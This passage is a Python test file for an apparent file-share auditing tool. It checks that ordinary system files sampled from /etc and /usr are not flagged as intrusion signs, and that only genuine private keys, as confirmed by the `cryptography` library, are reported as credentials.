CORPUS_ROOTS = [Path("/usr/share/doc"), Path("/etc"), *sorted(Path("/usr/lib").glob("python3*"))]
CORPUS_SIZE = 2000


def _ordinary_files() -> list[Path]:
    """World-readable regular files under the roots, candidates for the checks first (sorted, deterministic)."""
    files: list[Path] = []
    for root in CORPUS_ROOTS:
        for directory, subdirectories, names in os.walk(root):
            subdirectories.sort()
            for name in sorted(names):
                path = Path(directory) / name
                try:
                    mode = path.lstat().st_mode
                except OSError:
                    continue
                if stat.S_ISREG(mode) and mode & stat.S_IROTH:
                    files.append(path)
    candidates = [p for p in files if look_at_name(p.name, False) is not None]
    others = [p for p in files if look_at_name(p.name, False) is None]
    chosen = candidates[: CORPUS_SIZE // 2]
    step = max(1, len(others) // (CORPUS_SIZE - len(chosen)))
    chosen += others[::step][: CORPUS_SIZE - len(chosen)]
    return chosen


def _is_real_private_key(data: bytes) -> bool:
    """An independent judge: `cryptography` loads it as a private key (or needs its passphrase)."""
    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    try:
        load_pem_private_key(data, password=None)
    except TypeError:
        return True  # encrypted: a key all the same
    except ValueError:
        return False
    return True


class FileLister(TreeLister):
    """A Lister over a directory on this machine."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.heads = []

    def list_directory_fully(self, path: str) -> Listing:
        with os.scandir(self.root / path.replace("\\", "/")) as scan:
            entries = tuple(
                Entry(e.name, e.is_dir(follow_symlinks=False), e.stat().st_size, e.stat().st_mtime)
                for e in scan
            )
        return Listing(path, entries)

    def read_heads(self, paths: Sequence[str], length: int) -> Iterator[tuple[str, bytes | str]]:
        for path in paths:
            self.heads.append(path)
            with open(self.root / path.replace("\\", "/"), "rb") as handle:
                yield path, handle.read(length)


def test_ordinary_system_files_are_not_flagged(tmp_path: Path) -> None:
    chosen = _ordinary_files()
    assert len(chosen) >= CORPUS_SIZE * 0.9, f"only {len(chosen)} ordinary files found on this system"
    tree = tmp_path / "share"
    for path in chosen:
        target = tree / path.relative_to("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        with path.open("rb") as source, target.open("wb") as copy:
            copy.write(source.read(64 * 1024))
    # The classifier directly, file by file and folder by folder ...
    flagged: dict[str, object] = {}
    for path in chosen:
        relative = str(path.relative_to("/")).replace("/", "\\")
        look = look_at_name(path.name, is_drop_directory(relative.rsplit("\\", 1)[0]))
        if look is None:
            continue
        looked = (
            look_at_head(look, path.read_bytes()[:4096], fingerprint) if look.checks else look_unread(look)
        )
        if looked.signs or looked.credential:
            flagged[relative] = looked
    for directory in {p.parent for p in chosen}:
        names = sorted(e.name for e in os.scandir(directory) if e.is_file(follow_symlinks=False))
        if directory_sweep(names):
            flagged[str(directory)] = directory_sweep(names)
    # ... and through the crawl, over the copy.
    walked = ShareCrawl(FileLister(tree), "guest", CrawlBounds(rate=0), REDACTOR).run()
    assert walked.files_seen == len(chosen)
    assert walked.intrusion == ()
    real_keys = {
        str(p.relative_to("/")).replace("/", "\\")
        for p in chosen
        if _is_real_private_key(p.read_bytes()[:65536])
    }
    wrong = {path: hit for path, hit in flagged.items() if path not in real_keys}
    assert wrong == {}, "ordinary files flagged"
    # Private keys shipped as examples are real keys (judged by `cryptography`, not by shareaudit): found, rightly.
    assert all(c.kind is CredentialKind.PRIVATE_KEY for c in walked.credentials)
    assert len(walked.credentials) == len(real_keys)


def test_the_model_fields_have_defaults() -> None:
    plain = Content("guest", 0, 0, 0, False, False, 0.0)
    assert (plain.intrusion, plain.intrusion_counts, plain.credentials, plain.credentials_found) == (
        (),
        {},
        (),
        0,
    )
    assert {f.name for f in dataclasses.fields(Sign)} >= {
        "kind",
        "path",
        "directory",
        "drop",
        "why",
        "target",
    }
